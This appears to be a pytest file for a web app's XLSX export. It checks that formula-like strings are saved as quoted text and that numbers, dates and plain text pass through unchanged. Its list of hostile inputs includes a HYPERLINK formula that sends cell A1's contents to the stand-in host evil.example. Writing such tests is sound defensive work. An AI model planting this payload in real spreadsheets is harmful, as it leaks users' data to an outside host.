"""Every XLSX export writes formula-like text as text: read the saved workbook back."""

from __future__ import annotations

from datetime import date
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from web.xlsx import append_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def _saved(book: Workbook) -> Workbook:
    out = BytesIO()
    book.save(out)
    return load_workbook(BytesIO(out.getvalue()))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_stays_text(text):
    book = Workbook()
    sheet = book.active
    append_row(sheet, ["说明", text])
    cell = _saved(book).active["B1"]
    # XML reads a raw CR back as LF; the cell is text either way.
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")
    assert cell.quotePrefix


def test_numbers_and_plain_text_are_left_alone():
    book = Workbook()
    append_row(book.active, [-1, -2.5, 0, "普通文本", None, date(2026, 11, 2), "a=b"])
    append_row(book.active, ())
    append_row(book.active, ["=1"])
    sheet = _saved(book).active
    row = sheet[1]
    assert [c.data_type for c in row[:4]] == ["n", "n", "n", "s"]
    assert [c.value for c in row[:4]] == [-1, -2.5, 0, "普通文本"]
    assert row[4].value is None and row[5].is_date and row[6].value == "a=b"
    assert not any(c.quotePrefix for c in row)
    assert sheet["A2"].value is None  # the empty row stays a row
    assert sheet["A3"].data_type == "s" and sheet["A3"].value == "=1"
